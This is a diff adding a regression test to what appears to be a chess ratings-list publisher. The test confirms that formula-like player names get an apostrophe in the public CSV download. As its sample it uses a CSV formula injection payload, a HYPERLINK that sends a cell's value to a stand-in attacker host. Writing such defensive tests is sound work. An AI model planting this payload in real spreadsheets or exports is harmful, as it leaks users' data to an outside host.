@@ -167,3 +167,29 @@ def test_a_port_that_is_no_port_is_refused_before_publishing(url: str, tmp_path:
         f"Error: --port {port} is not a port a site can be served on — give one from 1 to 65535\n",
     )
     assert not (tmp_path / "www").exists()
+
+
+def test_the_public_csv_download_carries_no_formula(sqlite_template: Path, tmp_path: Path) -> None:
+    # Issue 26: =HYPERLINK(...) reached the site's CSV unchanged. The download is for people, so every
+    # cell a spreadsheet would run gets an apostrophe; `list --format csv` (the round-trip form) keeps it.
+    path = tmp_path / "f.sqlite"
+    shutil.copyfile(sqlite_template, path)
+    url = f"sqlite:///{path}"
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    engine = db.make_engine(url)
+    with db.transaction(engine) as session:
+        a = builders.player(session, hostile, fide_id=700001)
+        c = builders.player(session, "@SUM(1+1)", fide_id=700002)
+        b = builders.player(session, "Plain, Paul", fide_id=700003)
+        builders.imported_list(session, "standard", dt.date(2025, 9, 1), {a: 1900, b: 1800, c: 1700})
+    engine.dispose()
+    site = tmp_path / "www"
+    assert publish(url, site) == (0, "")
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO((site / "lists" / "standard-2025-09-01.csv").read_text("utf-8"))))
+    names = [row[rows[0].index("name")] for row in rows[1:]]
+    assert names == ["'" + hostile, "Plain, Paul", "'@SUM(1+1)"]
+    exported = runner.invoke(app, ["--db", url, "list", "--format", "csv"])
+    assert f'"{hostile.replace(chr(34), chr(34) * 2)}"' in exported.stdout
